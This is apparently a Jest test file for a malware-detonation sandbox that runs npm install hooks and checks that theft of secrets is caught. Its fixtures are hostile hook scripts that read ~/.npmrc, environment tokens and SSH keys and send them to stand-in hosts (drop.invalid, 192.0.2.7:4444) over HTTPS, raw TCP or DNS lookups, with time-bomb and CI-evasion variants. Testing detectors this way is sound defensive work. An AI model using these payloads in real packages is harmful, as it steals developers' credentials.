import { differences } from '@sallyport/domain';
import {
  detonationRange,
  everything,
  hook,
  INDEX,
  POST,
  sentIn,
  type DetonationRange,
} from '../support/detonation';

// Two cages one after the other, each with a strace: seconds where nothing else runs, more on a busy machine.
jest.setTimeout(300_000);

describe('detonation: what is stolen, and when', () => {
  let range: DetonationRange;
  beforeAll(async () => {
    range = await detonationRange({ phaseMs: 20_000 });
  });
  afterAll(() => range.cleanUp());

  describe('what is stolen', () => {
    it('sees ~/.npmrc in what a hook posts, though it is encoded', async () => {
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `
          const text = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
          ${POST('drop.invalid', "Buffer.from(text).toString('base64')")}`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(seen.codes).toContain('detonation-canary-sent');
      expect(everything(seen).flatMap(({ canaries }) => canaries)).toContainEqual({
        ...{ canary: '~/.npmrc', where: 'sent', to: 'drop.invalid', encodings: ['base64'] },
      });
      expect(everything(seen).flatMap(({ files }) => files)).toContainEqual({
        ...{ act: 'read', path: '~/.npmrc', planted: 'canary' },
      });
    });

    it('reads TLS, and packed bodies in it', async () => {
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `
          const body = require('zlib').gzipSync(JSON.stringify(process.env));
          require('https').request({ host: 'drop.invalid', method: 'POST', path: '/in' }).end(body);`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(everything(seen).flatMap(({ canaries }) => canaries)).toContainEqual({
        ...{ canary: 'NPM_TOKEN', where: 'sent', to: 'drop.invalid', encodings: ['gzip'] },
      });
    });

    it('sees what is spelt in names and never connects', async () => {
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `
          const hex = Buffer.from(process.env.GITHUB_TOKEN).toString('hex').match(/.{1,30}/g);
          const next = (i) => i < hex.length && require('dns').resolve4(i + '.' + hex[i] + '.drop.invalid', () => next(i + 1));
          next(0);`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(everything(seen).flatMap(({ canaries }) => canaries)).toContainEqual({
        ...{ canary: 'GITHUB_TOKEN', where: 'looked-up', to: 'drop.invalid', encodings: ['hex'] },
      });
    });

    it('suspects a key that was read before something unreadable was sent', async () => {
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `
          const { createCipheriv, randomBytes } = require('crypto');
          const key = require('fs').readFileSync(process.env.HOME + '/.ssh/id_ed25519');
          const cipher = createCipheriv('aes-256-gcm', randomBytes(32), randomBytes(12));
          require('net').connect(4444, '192.0.2.7').end(cipher.update(key));`,
      });

      expect(seen.verdict).toBe('suspicious');
      expect(seen.codes).toContain('detonation-reads-and-connects');
      expect(everything(seen).flatMap(({ connections }) => connections)).toContainEqual({
        ...{ protocol: 'tcp', name: null, address: '192.0.2.7', port: 4444 },
      });
    });

    it('reads bytes that only begin as TLS does', async () => {
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `
          const key = require('fs').readFileSync(process.env.HOME + '/.ssh/id_ed25519');
          require('net').connect(4444, '192.0.2.7').end(Buffer.concat([Buffer.from([0x16]), key]));`,
      });

      expect([seen.verdict, seen.codes.includes('detonation-canary-sent')]).toEqual(['malicious', true]);
    });
  });

  describe('what depends on the machine', () => {
    it('sees what sleeps until a date, on the machine that is ahead', async () => {
      const soon = Date.now() + 14 * 24 * 3_600_000;
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `if (Date.now() > ${soon}) ${POST('drop.invalid', 'process.env.NPM_TOKEN')}`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(sentIn(seen)).toEqual(['ci']);
      expect(seen.codes).toContain('detonation-differs');
    });

    it('sees what spares continuous integration, on the workstation', async () => {
      const seen = await range.npm(hook('take.js'), {
        ...INDEX,
        'take.js': `if (!process.env.CI) ${POST('drop.invalid', 'process.env.NPM_TOKEN')}`,
      });

      expect(seen.verdict).toBe('malicious');
      expect(sentIn(seen)).toEqual(['workstation']);
      expect(differences(seen.trace)).toContainEqual({
        ...{ phase: 'install', act: 'look-up', what: 'drop.invalid', environments: ['workstation'] },
      });
    });
  });
});
